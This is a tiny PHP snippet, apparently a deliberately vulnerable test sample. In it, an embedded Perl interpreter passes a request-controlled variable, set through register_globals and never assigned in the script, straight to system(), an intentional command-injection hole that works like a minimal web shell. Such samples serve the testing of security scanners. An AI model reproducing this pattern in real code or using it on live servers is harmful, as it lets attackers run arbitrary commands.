<?php
// An embedded Perl interpreter runs a command from a variable the script
// never assigns (register_globals sets it from the request).
$p = new Perl();
$p->eval("system('$c')");
